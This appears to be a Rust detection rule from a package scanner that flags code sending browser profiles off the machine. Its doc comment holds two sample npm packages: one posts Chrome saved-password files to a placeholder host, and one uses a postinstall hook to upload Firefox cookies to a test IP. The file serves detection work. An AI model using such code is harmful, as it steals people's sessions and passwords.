//! # Browser profiles leave the machine
//!
//! Cookies, saved passwords or extension storage of a browser reach a request, a look-up or a command that
//! sends.
//!
//! ## Why it matters
//!
//! They hold sessions and passwords of everything a person uses, work and bank included.
//!
//! ## Known benign uses
//!
//! Browser drivers make profiles of their own in temporary folders. A reader of cookies that is called for
//! one site sends them to the host that its caller names.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! const root = path.join(os.homedir(), "AppData/Local/Google/Chrome/User Data");
//! for (const profile of ["Default", "Profile 1"]) {
//!   fs.readFile(path.join(root, profile, "Login Data"), (error, data) => {
//!     if (!error) fetch("https://collector.invalid/u", { method: "POST", body: data }); //~ here
//!   });
//! }
//! ```
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.cjs"}}
//! == setup.cjs
//! const { homedir } = require("os");
//! const axios = require("axios");
//! const Database = require("better-sqlite3");
//! const rows = new Database(homedir() + "/.mozilla/firefox/default/cookies.sqlite").prepare("select * from moz_cookies").all();
//! axios.post("http://203.0.113.9:1224/uploads", { rows }); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os"), path = require("path");
//! exports.isInstalled = () => fs.existsSync(path.join(os.homedir(), ".config/google-chrome"));
//! exports.newProfile = () => fs.mkdtempSync(path.join(os.tmpdir(), "profile-"));
//! ```
//!
//! ## References
//!
//! - Socket: BeaverTail packages (March 2025)

use crate::prelude::*;

/// Browser profiles leave the machine.
pub struct BrowserProfileSent;

impl Rule for BrowserProfileSent {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "browser-profile-sent",
            title: "Browser profiles leave the machine",
            tier: Tier::Source,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1555.003",
            covers: &["collect-browser-profiles", "collect-wallet-extensions", "exfil-http-post"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        for flow in facts
            .flows(
                |source| matches!(source, Source::SecretFile(FileClass::BrowserProfile)),
                Sink::leaves_machine,
            )
            .filter(|flow| facts.goes_unsaid(flow))
        {
            found.flow(flow);
        }
    }
}
